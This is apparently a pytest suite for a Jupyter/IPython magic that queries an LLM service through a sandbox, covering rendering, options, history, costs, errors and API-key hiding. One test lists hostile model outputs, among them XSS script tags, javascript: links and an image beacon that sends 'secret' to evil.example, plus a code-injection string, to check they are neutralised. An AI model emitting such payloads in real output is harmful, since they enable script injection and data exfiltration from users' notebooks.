"""``%load_ext llmaas`` in a real kernel and in a plain IPython terminal, against the sandbox."""

import os
import re
import subprocess
import sys
import threading
import time
from html.parser import HTMLParser

import pytest

from llmaas_sandbox import Sandbox
from tests.helpers.waiting import eventually

pytest.importorskip("ipykernel", reason="no kernel in this environment")
from tests.helpers.browser.kernels import SECONDS, clean, kernel, text_of

pytestmark = pytest.mark.timeout(2 * SECONDS)
KEY = "sk-test-canary-of-the-notebook"


@pytest.fixture(scope="module")
def box():
    with Sandbox() as running:
        yield running


@pytest.fixture(scope="module")
def started(box, tmp_path_factory):
    where = {"LLMAAS_BASE_URL": box.base_url, "LLMAAS_API_KEY": box.api_key}
    with kernel(where, tmp_path_factory.mktemp("notebook")) as running:
        running.run("%load_ext llmaas")
        yield running


@pytest.fixture
def cell(started, box):
    box.reset()
    started.run("%llmaas clear")
    return started.run


def ask(cell, question, options=""):
    return cell(f"%%llmaas {options}\n{question}")


def test_the_answer_is_one_output_with_reasoning_folded_and_a_line_of_costs(cell, box):
    box.script([{"content": "Lyon *indeed*.", "reasoning": "Rivers <b>first</b>."}])
    (output,) = [o for o in ask(cell, "Which town?") if o.output_type == "display_data"]
    html, plain = output.data["text/html"], output.data["text/plain"]
    assert "<em>indeed</em>" in html
    assert "<details style" in html
    assert "<details open" not in html
    assert "Rivers &lt;b&gt;first&lt;/b&gt;." in html
    assert "Rivers" not in plain
    facts = plain.splitlines()[-1]
    for part in ("openai/gpt-oss-120b", " in, ", " EUR", "Wh (estimate)", " s", "ma0"):
        assert part in facts
    assert facts.partition(" ·")[0] in html


def test_it_is_drawn_while_it_comes(cell):
    drawn = cell(
        "from IPython import get_ipython\n"
        "from llmaas import ReasoningDelta, TextDelta\n"
        "from llmaas_cli.jupyter.views import NotebookView\n"
        "import time\n"
        "view = NotebookView()\n"
        "view.show_event(ReasoningDelta('Hm.')); time.sleep(.1)\n"
        "view.show_event(ReasoningDelta(' Well.'))\n"
    )
    assert "<details open" in text_of(drawn, "text/html")
    assert "Hm. Well." in text_of(drawn, "text/html")


def test_it_says_that_it_waits_for_the_first_word(cell):
    drawn = cell("from llmaas_cli.jupyter.views import NotebookView\nview = NotebookView()")
    assert "…" in text_of(drawn, "text/html")


def test_options_go_on_the_wire(cell, box):
    ask(cell, "Hello", '-m gemma4:31b -s "Be kind" -t 0.5 --effort low --max-tokens 99')
    sent = box.requests[-1].json
    assert sent["messages"] == [
        {"role": "system", "content": "Be kind"},
        {"role": "user", "content": "Hello"},
    ]
    chosen = ("model", "temperature", "reasoning_effort", "max_tokens", "stream")
    assert [sent[name] for name in chosen] == ["gemma4:31b", 0.5, "low", 99, True]


def test_variables_go_in_and_answers_come_out(cell, box):
    cell("town = 'Lyon'")
    out = ask(cell, 'Say "{town}" {{town}} {"a": 1} {nobody}', "--var said --completion whole")
    assert box.requests[-1].json["messages"][-1]["content"] == (
        'Say "Lyon" {town} {"a": 1} {nobody}'
    )
    assert "no variable 'nobody'" in text_of(out)
    assert text_of(cell("print(said.upper(), whole.usage.prompt_tokens > 0)")) == "LYON True\n"


def test_braces_evaluate_nothing(cell, box):
    ask(cell, "{__import__('os').system('true')} {1+1} $HOME")
    sent = box.requests[-1].json["messages"][-1]["content"]
    assert sent == "{__import__('os').system('true')} {1+1} $HOME"


def test_the_conversation_goes_on_until_it_is_cleared(cell, box):
    ask(cell, 'Say "one"')
    ask(cell, 'Say "two"')
    said = [message["content"] for message in box.requests[-1].json["messages"]]
    assert said == ['Say "one"', "one", 'Say "two"']
    assert "assistant: two" in text_of(cell("%llmaas history"))
    assert text_of(cell("%llmaas clear")) == "2 turns removed.\n"
    ask(cell, 'Say "three"', "--new")
    assert len(box.requests[-1].json["messages"]) == 1


def test_a_long_conversation_is_cut_to_half_of_the_context(cell, box):
    cell("long = 'word ' * 100_000")  # half of the context of 250,000 tokens
    ask(cell, '{long} Say "one"', "-m gemma4:31b")
    ask(cell, 'Say "two"', "-m gemma4:31b")
    said = [message["content"] for message in box.requests[-1].json["messages"]]
    assert said[-1] == 'Say "two"'
    assert sum(map(len, said)) < 250_000 * 4 / 2


def test_costs_and_models(cell):
    ask(cell, 'Say "one"')
    costs = text_of(cell("%llmaas cost"))
    assert re.search(r"openai/gpt-oss-120b +\d+ .* EUR .*Wh", costs)
    assert re.search(r"total +\d+ .* EUR .*Wh", costs)
    models = text_of(cell("%llmaas models vision")).splitlines()
    assert len(models) > 1
    assert all("vision" in line for line in models[1:])
    assert text_of(cell("%llmaas model gemma4:31b")) == "gemma4:31b\n"
    cell("%llmaas model gpt-oss:120b")
    assert "%llmaas cost" in text_of(cell("%llmaas"))


@pytest.mark.parametrize(
    "wicked",
    [
        "<script>document.title='owned'</script>",
        "<img src=x onerror=alert(1)>",
        "![beacon](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "`<b>` <!-- <i> --> ```\n<script>\n",
        "<https://a.example/\"onmouseover='x'>",
        "$\\href{javascript:alert(1)}{x}$ \\\\href{javascript:alert(1)}{y}",
    ],
)
def test_what_a_model_writes_does_nothing(cell, box, wicked):
    box.script([{"content": f"Well: {wicked}", "reasoning": wicked}])
    html = text_of(ask(cell, "?"), "text/html")
    found = Tags(html)
    assert found.names <= {"details", "summary", "div", "small", "p", "a", "code", "pre"}
    assert found.attributes <= {"style", "href"}
    assert all(link.startswith("https:") for link in found.links)
    assert "\\href" not in html


class Tags(HTMLParser):
    """What is alive in some HTML."""

    def __init__(self, html):
        super().__init__()
        self.names, self.attributes, self.links = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.attributes |= dict(attrs).keys()
        self.links += [value for name, value in attrs if name == "href"]


def test_a_failure_is_one_line_and_stops_the_notebook(cell):
    error = ask(cell, "Hello", "-m no-such-model")[-1]
    assert (error.output_type, error.ename, len(error.traceback)) == ("error", "AskError", 1)
    assert "no-such-model" in error.evalue
    assert "llmaas models" in error.evalue


def test_what_came_before_a_break_is_shown_and_not_remembered(cell, box):
    shown = ask(cell, 'Say "one two three four five six"', "-m sandbox/cut:6")
    assert "Interrupted." in text_of(shown)
    assert shown[-1].ename == "AskError"
    assert "The conversation is empty" in text_of(cell("%llmaas history"))


def test_the_stop_button_ends_the_answer(cell, box, started):
    def stop():
        eventually(lambda: list(box.requests), SECONDS)
        time.sleep(0.3)
        started.interrupt()

    stopper = threading.Thread(target=stop)
    stopper.start()
    shown = ask(cell, "Hello there", "-m sandbox/stall:30:2")
    stopper.join()
    assert "Stopped" in shown[-1].evalue
    assert len(shown[-1].traceback) == 1
    assert text_of(ask(cell, 'Say "on"')).startswith("on")


@pytest.mark.parametrize(
    ("options", "complaint"),
    [
        ("--nonsense", "unrecognized arguments"),
        ("--var 1x", "not a valid variable name"),
        ('-s "open', "No closing quotation"),
    ],
)
def test_a_wrong_option_is_one_line(cell, options, complaint):
    shown = text_of(ask(cell, "Hello", options))
    assert complaint in shown
    assert len(shown.strip().splitlines()) == 1


def test_a_name_that_changed_is_a_note_without_a_path(cell):
    shown = text_of(ask(cell, "Hello", "-m qwen3:0.6b"))
    assert "note: model 'qwen3:0.6b' is redirected" in shown
    assert ".py" not in shown


def test_bars_become_a_line(cell, tmp_path):
    cell("from llmaas import LLMaaS, bulk\nfrom llmaas_cli.jupyter import progress")
    shown = cell(
        "texts = [f'text {n}' for n in range(60)]\n"
        "LLMaaS().embed(texts, model='bge-m3:567m', batch_size=4, progress=progress('Texts'));"
    )
    assert [o.data for o in shown] == [{"text/plain": "Texts: 60 of 60"}]
    shown = cell(
        "prompts = [f'Say \"{n}\"' for n in range(20)] + ['']\n"
        f"await bulk.arun(prompts, {str(tmp_path / 'out')!r}, model='gemma4:31b',"
        " progress=progress('Answers'));"
    )
    assert text_of(shown).startswith("Answers: 21 of 21, ")


def test_a_bar_that_is_left_early_says_how_far_it_came(cell):
    shown = cell("with progress('Half') as told:\n    told(3, 6)")
    assert [o.data for o in shown] == [{"text/plain": "Half: 3 of 6"}]


def test_the_key_is_in_no_output(cell):
    cell(f"import os; real = os.environ['LLMAAS_API_KEY']; os.environ['LLMAAS_API_KEY'] = {KEY!r}")
    shown = ask(cell, "Hello") + cell("%tb") + cell("%llmaas who")
    cell("os.environ['LLMAAS_API_KEY'] = real")
    assert "401" in text_of(shown)
    assert KEY not in str(shown)
    assert text_of(ask(cell, 'Say "yes"')).startswith("yes")


def test_without_a_key_the_sandbox_answers_and_says_so(tmp_path):
    with kernel({}, tmp_path) as running:
        running.run("%load_ext llmaas")
        shown = ask(running.run, 'Say "Bonjour"')
        assert text_of(shown).startswith("Connected to the embedded sandbox")
        assert text_of(shown).endswith("sandbox")
        assert "The embedded" not in text_of(ask(running.run, 'Say "again"'))
        assert text_of(running.run("import sys; 'openai' in sys.modules")) == "False"
        assert "False" in text_of(running.run("import os; 'LLMAAS_API_KEY' in os.environ"))
        running.run("from llmaas import LLMaaS\nfrom llmaas_cli.jupyter import connect\nconnect();")
        beside = "LLMaaS().chat('Say \"hello\"', model='gemma4:31b').text"
        assert text_of(running.run(beside)) == "'hello'"
        running.run("%unload_ext llmaas")
        assert "not found" in text_of(ask(running.run, "Hello"))
        assert "False" in text_of(running.run("'LLMAAS_API_KEY' in os.environ"))


def test_a_terminal_gets_text(tmp_path, sandbox):
    script = tmp_path / "session.ipy"
    script.write_text(
        "%load_ext llmaas\n"
        "get_ipython().run_cell_magic('llmaas', '--var said', 'Say \"<b>Bonjour</b>\"')\n"
        "print(said.upper())\n"
        "%llmaas cost\n"
        "from llmaas_cli.jupyter import progress\n"
        "told = progress('Texts')\n"
        "told(1, 2); told(2, 2)\n"
        "get_ipython().run_cell_magic('llmaas', '-m nobody', 'Hello')\n"
    )
    where = {"LLMAAS_BASE_URL": sandbox.base_url, "LLMAAS_API_KEY": sandbox.api_key}
    done = subprocess.run(
        [sys.executable, "-m", "IPython", "--no-banner", "--colors=NoColor", str(script)],
        env=clean({**where, "IPYTHONDIR": str(tmp_path / "ipython")}),
        capture_output=True,
        text=True,
        timeout=SECONDS,
        cwd=tmp_path,
        check=False,
    )
    lines = done.stdout.splitlines()
    assert lines[:2] == [f"Connected to the service at {sandbox.base_url}", "<b>Bonjour</b>"]
    assert "openai/gpt-oss-120b · " in lines[2]
    assert "<B>BONJOUR</B>" in lines
    assert "Texts: 2 of 2" in lines
    told = done.stdout + done.stderr
    assert "Model 'nobody' does not exist" in told
    assert "Traceback" not in told
    assert os.environ["LLMAAS_API_KEY"] not in told
